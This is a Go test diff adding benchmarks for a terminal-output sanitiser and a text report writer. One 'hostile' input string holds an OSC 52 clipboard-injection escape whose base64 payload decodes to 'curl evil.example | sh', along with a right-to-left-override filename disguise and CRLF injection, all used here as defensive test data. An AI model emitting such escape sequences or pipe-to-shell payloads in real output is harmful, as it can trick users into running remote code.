@@ -147,3 +147,25 @@ func TestWriteHTMLHostile(t *testing.T) {
 		}
 	}
 }
+
+func BenchmarkTerminalSafe(b *testing.B) {
+	for _, bc := range []struct{ name, s string }{
+		{"clean", `body.items.*.price: "12.50" → "12.00"`},
+		{"hostile", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07/files/\u202egnp.exe\r\n"},
+	} {
+		b.Run(bc.name, func(b *testing.B) {
+			for range b.N {
+				_ = TerminalSafe(bc.s)
+			}
+		})
+	}
+}
+
+func BenchmarkWriteText(b *testing.B) {
+	rep := hostileReport("x")
+	var out bytes.Buffer
+	for range b.N {
+		out.Reset()
+		_ = WriteText(&out, rep, TextOptions{ShowNoise: true})
+	}
+}
